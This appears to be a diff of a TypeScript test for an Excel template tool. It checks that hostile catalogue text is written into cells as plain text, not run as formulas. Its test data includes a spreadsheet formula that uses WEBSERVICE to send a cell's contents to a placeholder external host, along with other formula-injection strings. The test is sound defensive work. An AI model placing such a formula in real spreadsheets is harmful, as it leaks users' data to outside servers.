@@ -9,6 +9,7 @@ import { defaultKatalog } from "../../../src/core/catalogue/loadKatalog";
 import { buildTemplate } from "../../../src/core/template/templateModel";
 import { fakeHost, FakeWorkbookState } from "../../../src/dev/fakeExcel";
 import { createWorkbookService } from "../../../src/excel/workbookService";
+import { KASI_PEMERINTAHAN_2025 } from "../../support/templateOptions";
 
 const HOSTILE = ['=WEBSERVICE("http://contoh.invalid/?d="&A1)', "+1+2", "-Kasubag Umum dan Kepegawaian", "@SUM(A1:A3)", "'kutip"];
 
@@ -38,7 +39,7 @@ describe("hostile catalogue text stays text", () => {
     const state = new FakeWorkbookState();
     state.addSheet("Lembar1");
     const service = createWorkbookService(fakeHost(state));
-    const model = buildTemplate(katalog, { kind: "iki", unit: "kecamatan", jabatan: "kasi-pemerintahan", tahun: 2025, isiDariKatalog: true, identitas: true, ukuran: "tahunan", tandaTangan: true });
+    const model = buildTemplate(katalog, KASI_PEMERINTAHAN_2025);
     const { sheet } = await service.insertTemplate(model, { kind: "lembar-baru" });
     const cells = [...state.sheet(sheet)!.cells.values()];
     for (const text of HOSTILE.slice(0, 4)) expect(cells.some((c) => c.value === text && !c.formula)).toBe(true);
